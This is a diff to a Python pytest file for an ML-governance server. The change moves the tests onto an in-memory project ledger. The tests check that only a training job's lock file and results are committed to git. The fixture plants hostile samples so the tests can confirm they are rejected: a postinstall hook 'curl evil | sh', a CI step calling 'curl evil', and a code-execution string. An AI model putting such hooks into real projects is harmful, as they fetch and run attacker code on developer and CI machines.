@@ -12,9 +12,10 @@ from pathlib import Path
 
 import pytest
 from conftest import commit_all, git, tiny_pipeline
+from support.projects import in_memory
 
 from govern.api import locks
-from govern.api.context import open_project
+from govern.api.context import Project
 from govern.envelope import PendingEvent, utc_now
 from govern.errors import GovernError
 from govern.events import ModelRegistered, TrainingCompleted
@@ -84,6 +85,7 @@ def trained(tmp_path: Path) -> dict:
     (project / ".github" / "workflows").mkdir(parents=True)
     (project / ".github" / "workflows" / "ci.yml").write_text("on: push\n")
     base = commit_all(project, "base")
+    served = in_memory(project)  # the server's project: its checkout, over an in-memory ledger
     job = tmp_path / "job"
     (job / ".github" / "workflows").mkdir(parents=True)
     (job / "dvc.lock").write_text(LOCK)
@@ -93,17 +95,17 @@ def trained(tmp_path: Path) -> dict:
     (job / "package.json").write_text('{"scripts": {"postinstall": "curl evil | sh"}}\n')
     (job / "m.json").write_text('{"code": "import os; os.system(\'id\')"}\n')
     (job / ".github" / "workflows" / "ci.yml").write_text("on: push\njobs: {steal: {run: curl evil}}\n")
-    return {"project": project, "base": base, "job": job, "training": record(project, base, LOCK)}
+    return {"project": project, "served": served, "base": base, "job": job, "training": record(served, base, LOCK)}
 
 
-def record(project: Path, base: str, lock_text: str, md5: str = MD5) -> str:
+def record(served: Project, base: str, lock_text: str, md5: str = MD5) -> str:
     training = TrainingCompleted(
         git={"commit": base, "branch": "main", "dirty_paths": []},
         dvc_lock_sha256=locks.lock_digest({"dvc.lock": lock_text}), targets=[], stages=[], params={}, metrics={},
         outputs=[], datasets=[], models=[{"name": "tiny-model", "path": "out.txt", "md5": md5, "sha256": SHA}],
         environment={}, duration_s=1.0, run_cache_hit=False,
     )  # fmt: skip
-    ledger = open_project(project).ledger
+    ledger = served.ledger
     [done] = ledger.append([PendingEvent(training, actor="sci", occurred_at=utc_now(), git_commit=base)])
     registered = ModelRegistered("tiny-model", "1", "out.txt", md5, SHA, done.event_id, "run", "sqlite:///x", "m")
     ledger.append([PendingEvent(registered, actor="sci", occurred_at=utc_now(), git_commit=base)])
@@ -113,7 +115,7 @@ def record(project: Path, base: str, lock_text: str, md5: str = MD5) -> str:
 def test_the_lock_and_declared_results_are_committed_never_code_nor_a_file_that_steers_ci(trained: dict) -> None:
     project, base = trained["project"], trained["base"]
 
-    sha, note = locks.commit_for_job(open_project(project), "0123456789ab", trained["training"], trained["job"], "sci")
+    sha, note = locks.commit_for_job(trained["served"], "0123456789ab", trained["training"], trained["job"], "sci")
 
     assert note is None and sha, note
     assert git(project, "rev-parse", "govern/trainings/0123456789ab") == sha
@@ -126,7 +128,7 @@ def test_the_lock_and_declared_results_are_committed_never_code_nor_a_file_that_
     assert git(project, "show", f"{sha}:m.json") == '{"code": "pass"}', "a stage reads it (as ./m.json)"
     assert git(project, "log", "-1", "--format=%an <%ae>", sha) == "govern server <govern-server@localhost>"
     assert git(project, "status", "--porcelain") == "", "the server's work tree and index are untouched"
-    [locked] = open_project(project).ledger.read(types=["training.locked"])
+    [locked] = trained["served"].ledger.read(types=["training.locked"])
     assert locked.payload["commit"] == sha and locked.payload["versions"] == [{"model": "tiny-model", "version": "1"}]
 
 
@@ -134,16 +136,16 @@ def test_a_lock_other_than_the_reported_one_or_behind_a_link_commits_nothing(tra
     project, job = trained["project"], trained["job"]
     (job / "dvc.lock").write_text(LOCK.replace(MD5, "e" * 32))  # another model's bytes than the training's
 
-    sha, note = locks.commit_for_job(open_project(project), "0123456789ab", trained["training"], job, "sci")
+    sha, note = locks.commit_for_job(trained["served"], "0123456789ab", trained["training"], job, "sci")
 
     assert sha is None and note == "the job's dvc.lock is not the one its training reports: nothing was committed"
     (tmp_path / "elsewhere.lock").write_text(LOCK)
     (job / "dvc.lock").unlink()
     os.symlink(tmp_path / "elsewhere.lock", job / "dvc.lock")
-    sha, note = locks.commit_for_job(open_project(project), "0123456789ab", trained["training"], job, "sci")
+    sha, note = locks.commit_for_job(trained["served"], "0123456789ab", trained["training"], job, "sci")
     assert sha is None and "dvc.lock in the job's workspace is not a plain file" in note, note
     assert not git(project, "branch", "--list", "govern/trainings/*"), "no branch was made"
-    assert open_project(project).ledger.read(types=["training.locked"]) == []
+    assert trained["served"].ledger.read(types=["training.locked"]) == []
 
 
 def test_an_existing_branch_is_never_moved(trained: dict) -> None:
@@ -151,7 +153,7 @@ def test_an_existing_branch_is_never_moved(trained: dict) -> None:
     git(project, "branch", "govern/trainings/0123456789ab")  # someone's branch of that name
     before = git(project, "rev-parse", "govern/trainings/0123456789ab")
 
-    sha, note = locks.commit_for_job(open_project(project), "0123456789ab", trained["training"], trained["job"], "sci")
+    sha, note = locks.commit_for_job(trained["served"], "0123456789ab", trained["training"], trained["job"], "sci")
 
     assert sha is None and "the lock could not be committed" in note, note
     assert git(project, "rev-parse", "govern/trainings/0123456789ab") == before
@@ -166,12 +168,13 @@ def test_a_lock_that_does_not_give_the_model_its_registered_md5_is_not_committed
     job = tmp_path / "job"
     job.mkdir()
     (job / "dvc.lock").write_text(forged)
-    training = record(project, base, forged)
+    served = in_memory(project)
+    training = record(served, base, forged)
 
-    sha, note = locks.commit_for_job(open_project(project), "0123456789ab", training, job, "sci")
+    sha, note = locks.commit_for_job(served, "0123456789ab", training, job, "sci")
 
     assert sha is None and f"does not rebuild its versions (it gives out.txt md5 {'9' * 32})" in note, note
-    assert open_project(project).ledger.read(types=["training.locked"]) == []
+    assert served.ledger.read(types=["training.locked"]) == []
 
 
 def test_a_commit_made_before_a_crash_is_taken_again_by_the_retry(trained: dict) -> None:
@@ -193,12 +196,13 @@ def test_a_directory_model_or_oversized_locks_are_not_committed_by_the_server(tm
     job.mkdir()
     dir_lock = LOCK.replace(f"path: out.txt\n      md5: {MD5}", f"path: out.txt\n      md5: {MD5}.dir")
     (job / "dvc.lock").write_text(dir_lock)
-    training = record(project, base, dir_lock, md5=f"{MD5}.dir")
+    served = in_memory(project)
+    training = record(served, base, dir_lock, md5=f"{MD5}.dir")
 
-    sha, note = locks.commit_for_job(open_project(project), "0123456789ab", training, job, "sci")
+    sha, note = locks.commit_for_job(served, "0123456789ab", training, job, "sci")
 
     assert sha is None and "a directory model: the server checks the bytes of model files only" in note, note
     padded = LOCK + "# " + "x" * (17 << 20) + "\n"
     (job / "dvc.lock").write_text(padded)
-    sha, note = locks.commit_for_job(open_project(project), "0123456789ab", record(project, base, padded), job, "sci")
+    sha, note = locks.commit_for_job(served, "0123456789ab", record(served, base, padded), job, "sci")
     assert sha is None and "larger than 16 MB" in note, note
